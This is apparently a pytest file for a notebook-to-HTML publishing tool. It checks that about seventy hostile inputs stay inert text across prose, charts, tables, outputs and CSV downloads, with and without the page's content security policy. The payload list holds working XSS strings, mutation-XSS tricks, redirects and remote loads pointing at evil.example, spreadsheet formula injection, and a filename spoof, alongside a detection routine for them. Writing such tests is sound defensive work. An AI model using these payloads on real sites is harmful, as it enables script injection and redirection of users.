"""Hostile text stays text: through every way into a page, with the page's policy and, as a trial, without it.

A page keeps what it is given in check twice: what is no allowed markup is taken out or shown as text, and a policy
keeps any script from running and anything from being fetched. Each lock is tried by itself.
"""

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import mistune
import nbformat
import pandas as pd
import pytest
from bs4 import BeautifulSoup, Tag
from playwright.sync_api import Browser

from dojo import marks, show, tables
from publish import clean, notebooks, pages

#: each would call hit(), ask the network, restyle or take over the page, if it became markup
PAYLOADS = [
    "<script>hit()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script>hit()//",
    "<<script>hit()//<</script>",
    "</script><script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<img src=https://evil.example/p.png>",
    '"><img src=x onerror=hit()>',
    "'><img src=x onerror=hit()>",
    '" onmouseover="hit()" autofocus onfocus="hit()" x="',
    "' autofocus tabindex=1 onfocus='hit()' x='",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><style><img src=x onerror=hit()></style></svg>",
    "<svg><a xlink:href='javascript:hit()'><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><use href='https://evil.example/x.svg#a'/></svg>",
    "<svg><rect width=9 height=9 fill='url(https://evil.example/x.svg#a)' stroke='\\75rl(https://evil.example/y)'/></svg>",
    "<svg></p><style><a title='</style><img src=x onerror=hit()>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=hit()></annotation-xml></math>",
    "<math href='javascript:hit()'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<template><img src=x onerror=hit()></template>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:hit()>",
    "<object data='data:text/html,<script>hit()</script>'>",
    "<embed src=https://evil.example/x.swf>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
    "<div style='background: url(https://evil.example/b.png); position: fixed; inset: 0'>x</div>",
    "<form action=https://evil.example/><button autofocus>x</button></form>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()>",
    "<details open ontoggle=hit()>x</details>",
    "<marquee onstart=hit()>x</marquee>",
    "<body onload=hit()>",
    "<a href=javascript:hit()>x</a>",
    "<a href='jav&#x09;ascript:hit()'>x</a>",
    "<a href=' &#1; javascript:hit()'>x</a>",
    "<a href='data:text/html,<script>hit()</script>'>x</a>",
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    "data:text/html,<script>hit()</script>",
    "vbscript:hit()",
    "//evil.example/",
    "\\\\evil.example/",
    "/\\evil.example/",
    "<!--><img src=x onerror=hit()>-->",
    "<![CDATA[<img src=x onerror=hit()>]]>",
    "]]></svg><script>hit()</script>",
    "</title><script>hit()</script>",
    "</textarea></style></figure></section></main><script>hit()</script>",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;script>hit()&#60;/script>",
    "%3Cscript%3Ehit()%3C/script%3E",
    "{{ 7 * 7 }}{% raw %}<script>hit()</script>",
    "`<script>hit()</script>`",
    "![x](javascript:hit())",
    "[x](javascript:hit()) <javascript:hit()>",
    '=HYPERLINK("https://evil.example","x")',
    "@SUM(1+1)|cmd",
    "x\u202egpj.exe\u2066",
    "<x" + "a" * 5000 + " onclick=hit()>",
    '<div class="weigh" data-said=\'{"accounts":["<img src=x onerror=hit()>"]}\'>x</div>',
    "<a id=content name=content href=#>x</a><p id=n1>y</p>",
]
assert len(set(PAYLOADS)) == len(PAYLOADS) >= 40

#: rows that the page below cites, and the cells of theirs that get the payload
CELLS = [
    ("events", "dojo-disbanded-report", "note"),
    ("events", "dojo-disbanded-report", "standing"),
    ("sources", "bloomberg-2025-08-07", "publisher"),
    ("sources", "bloomberg-2025-08-07", "title"),
    ("sources", "bloomberg-2025-08-07", "url"),
    ("unknowns", "decision-date", "closest"),
    ("glossary", "exapod", "definition"),
]
PROSE = """## {p}

A fact of [{text}](../data/story/events.csv#dojo-disbanded-report), quoted as
“[{text}](../data/story/events.csv#dojo-disbanded-report)”.
Not known: [{text}](../data/story/unknowns.csv#decision-date). An ExaPOD. {p} Said[^1].

[{text}]({address}) [x](#c "{quoted}") [{text}](#cell-id=c)

| {cell} | b |
|---|---|
| {cell} | 1 |

> {p}

<details><summary>{p}</summary>

{p}

</details>

$\\text{{{tex}}}$

[^1]: {p}
"""


def markdown(payload: str) -> str:
    """The payload in every place of a text that a notebook may hold."""
    line = payload.replace("\n", " ")
    return PROSE.format(
        p=line,
        text=line.replace("[", "").replace("]", ""),
        address=line.replace(" ", "%20").replace(")", "%29"),
        quoted=line.replace('"', "'"),
        cell=line.replace("|", ""),
        tex="".join(sign for sign in line if sign not in "{}$\\%#&^_~"),
    )


def chart(payload: str) -> show.Shown:
    """The payload in every place of a chart; its mark is named, so that it stands in the page as elements."""
    figure = marks.canvas(343, 120)
    axes = figure.add_axes((0.2, 0.2, 0.7, 0.7))
    axes.scatter([1], [1]).set_gid("one")
    for number, part in enumerate((payload, payload[::-1])):
        axes.text(0.1, number / 2, part.replace("$", ""), gid=part)
    data = pd.DataFrame({payload: [payload, "1"]}, index=pd.Index(["one", payload], name="row"))
    alt = f"A chart of one mark, with words that are not meant well: {payload}"[:300]
    title = f"A title that is not meant well: {payload}"
    return show.figure(
        figure, title=title, subtitle=payload, alt=alt, caption=payload, data=data, names={"one": payload or "x"}
    )


def output(**data: str) -> nbformat.NotebookNode:
    return nbformat.v4.new_output("execute_result", {kind.replace("_", "/"): text for kind, text in data.items()})


def cells(payload: str, name: str) -> Iterator[nbformat.NotebookNode]:
    """Cells that hold the payload in all ways there are."""
    frame = pd.DataFrame({payload: [payload, "x"]})
    table = show.table(frame, title=f"A table: {payload}", caption=payload)
    figure, numbers = chart(payload), show.numbers(**{payload: payload})
    outputs = [
        output(text_html=figure.html, text_plain=figure.text),
        output(text_html=table.html, text_plain=table.text),
        output(text_html=numbers.html, text_plain=numbers.text),
        output(text_html=show.aside(numbers, payload).html, text_plain=payload),
        output(text_html=frame.to_html(), text_plain=payload),
        output(text_html=payload, text_plain=payload),
        output(text_plain=payload),
        output(text_markdown=payload, text_plain=payload),
        output(text_latex=payload, text_plain=payload),
        nbformat.v4.new_output("stream", name="stdout", text=payload),
        nbformat.v4.new_output("stream", name="stderr", text=payload),
    ]
    yield nbformat.v4.new_markdown_cell(markdown(payload), id=f"{name}-prose")
    yield nbformat.v4.new_code_cell(f"# {payload}\nx = {payload!r}", id=f"{name}-code", outputs=outputs)


def book(payloads: list[str]) -> notebooks.Notebook:
    made = [nbformat.v4.new_markdown_cell("# A page\n\nIts opening.", id="c")]
    made += [cell for number, payload in enumerate(payloads) for cell in cells(payload, f"p{number}")]
    return notebooks.Notebook(notebooks.FOLDER / "09-test.ipynb", nbformat.v4.new_notebook(cells=made))


def taint(monkeypatch: pytest.MonkeyPatch, payload: str) -> None:
    """Put a payload into cells of tables, as if it had been read from them."""
    for table, row, column in CELLS:
        monkeypatch.setitem(tables.find(row, table)[0].cells, column, payload)


def made(payloads: list[str], folder: Path) -> dict[str, Path]:
    """The pages of a notebook with these payloads: its page, the whole story, and its plain twin read as Markdown.

    The tables that they offer lie beside them.
    """
    one = book(payloads)
    part = pages.part(one, [one])
    whole = pages.together([one], [part])
    twin = mistune.create_markdown(escape=False, plugins=["table", "footnotes"])(whole[pages.TWIN])
    texts = {
        "page": part.files["09-test.html"],
        "whole": whole[pages.EDITION],
        "index": whole[pages.INDEX],
        "twin": f"<!doctype html><title>t</title><main>{twin}</main>",
    }
    for name, text in ({f"{name}.html": text for name, text in texts.items()} | part.files).items():
        tables.write(folder / name, text)
    return {name: folder / f"{name}.html" for name in texts}


HARM = """([allowed, own]) => [...document.querySelectorAll("*")].flatMap((one) => [
    ...(allowed.includes(one.localName) || (one.localName == "script" && one.textContent == own)
        ? [] : [`holds <${one.localName}>`]),
    ...[...one.attributes].filter(({ name, value }) =>
        /^on|^style$|^srcdoc$|^action$|^formaction$/i.test(name) ||
        (/href$|^(src|data|poster|values|to|from|background)$/i.test(name) &&
            /^[\\s\\x00-\\x20]*(javascript|vbscript):/i.test(value)) ||
        (name == "href" && /^data:/i.test(value) && !/^data:(text\\/csv|image\\/svg\\+xml)[;,]/i.test(value)) ||
        ((name == "src" || one.localName == "use") && /^(https?:)?\\/\\//i.test(value)))
        .map(({ name, value }) => `<${one.localName} ${name}=${value.slice(0, 60)}>`),
])"""
#: what the frame itself adds to what is let through
FRAME = {"html", "head", "meta", "title", "link", "style", "body", "header", "nav", "main", "footer", "article"}
FRAME |= {"input", "label", "dfn", "text", "tspan", "defs", "use", "clipPath", "pattern", "u"}
#: how many the frame has of what would do harm anywhere else
MOST = {"style": 1, "link": 1, "input": 1, "meta": 5, "header": 1, "footer": 1}


def harm(browser: Browser, path: Path, bypass: bool) -> list[str]:
    """What hostile text did to a page: ran, asked, navigated, or became markup that may."""
    found: list[str] = []
    with browser.new_context(bypass_csp=bypass) as context:
        context.route(
            "**/*", lambda route: route.continue_() if route.request.url.startswith("file:") else route.abort()
        )
        page = context.new_page()
        page.add_init_script("window.hit = () => { window.wasHit = true; }")
        page.on("request", lambda asked: found.append(f"asks {asked.url[:80]}") if foreign(asked.url, path) else None)
        page.on("dialog", lambda dialog: (found.append("a dialog"), dialog.dismiss()))
        page.goto(path.as_uri(), wait_until="load")
        page.mouse.move(300, 300)
        page.keyboard.press("Tab")
        page.wait_for_timeout(50)
        if page.evaluate("window.wasHit"):
            found.append("ran")
        if page.url.partition("#")[0] != path.as_uri():
            found.append(f"went to {page.url}")
        found += page.evaluate(HARM, [sorted(clean.TAGS | FRAME), pages.script()])
        found += [f"adds a <{tag}>" for tag, most in MOST.items() if page.locator(tag).count() > most]
        if page.locator("main").count() != 1 or page.locator("h1").count() < 1:
            found.append("lost its frame")
    return found


def foreign(url: str, path: Path) -> bool:
    return url.partition("#")[0] != path.as_uri() and not url.startswith("data:image/svg+xml")


@pytest.fixture(scope="module")
def all_at_once(tmp_path_factory) -> dict[str, Path]:
    with pytest.MonkeyPatch.context() as monkeypatch:
        taint(monkeypatch, "".join(PAYLOADS[:60:7]))
        return made(PAYLOADS, tmp_path_factory.mktemp("payloads"))


@pytest.mark.parametrize("bypass", [False, True], ids=["with the policy", "without"])
def test_all_payloads_in_all_ways_at_once_do_nothing(browser, all_at_once, bypass):
    for name, path in all_at_once.items():
        assert harm(browser, path, bypass) == [], name


@pytest.mark.thorough
@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: payload[:30])
def test_each_payload_by_itself_does_nothing(browser, tmp_path, monkeypatch, payload):
    taint(monkeypatch, payload)
    paths = made([payload], tmp_path)
    for name, bypass in (("page", False), ("page", True), ("whole", True), ("twin", True)):
        assert harm(browser, paths[name], bypass) == [], (name, bypass)


@pytest.fixture(scope="module")
def steps(all_at_once) -> list[Tag]:
    """What the page shows of the cell of each payload."""
    soup = BeautifulSoup(all_at_once["page"].read_text("utf-8"), "html.parser")
    return [soup.find(id=f"p{number}-code") for number in range(len(PAYLOADS))]


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: payload[:30])
def test_what_is_text_is_shown_as_text(steps, payload):
    """Outputs, code, and the words of charts and tables say what they were given, letter by letter."""
    step = steps[PAYLOADS.index(payload)]
    said = squeezed(payload)
    assert said in squeezed(step.select_one(".source").get_text())
    assert [said in squeezed(pre.get_text()) for pre in step.select("section > pre")].count(True) >= 4
    figure, table = step.select("figure")
    for place in (figure.select_one(".title"), figure.select_one(".subtitle"), figure.figcaption, figure.table):
        assert said in squeezed(place.get_text())
    assert payload in figure.svg["aria-label"] or len(payload) > 200
    assert said in squeezed(figure.svg.select_one(".marks").get_text())
    assert said in squeezed(table.table.get_text())


def squeezed(text: str) -> str:
    return "".join(text.split())


def test_no_cell_of_a_download_is_a_formula(all_at_once):
    downloads = [*(all_at_once["page"].parent / "data").glob("*.csv")]
    assert len(downloads) == 2 * len(PAYLOADS)
    for path in downloads:
        for row in csv.reader(io.StringIO(path.read_text("utf-8"))):
            assert [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []


# --- that it would be noticed ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "fault"),
    [
        ("<script>hit()</script>", "ran"),
        ("<img src=x onerror=hit()>", "ran"),
        ("<img src=https://evil.example/p.png>", "asks https://evil.example/p.png"),
        ("<a href=javascript:hit()>x</a>", "<a href=javascript:hit()>"),
        ("<p style='color: red'>x", "<p style=color: red>"),
        ("<iframe></iframe>", "holds <iframe>"),
        ("<meta http-equiv=refresh content='0;url=about:blank'>", "went to about:blank"),
        ("</main><main>", "lost its frame"),
        ("<style>main { display: none }</style><style></style>", "adds a <style>"),
        ("<script></script>", "holds <script>"),
    ],
)
def test_harm_is_noticed(browser, tmp_path, body, fault):
    path = tmp_path / "page.html"
    path.write_text(f"<!doctype html><title>t</title><main><h1>T</h1>{body}</main>", "utf-8")
    assert fault in harm(browser, path, bypass=False)
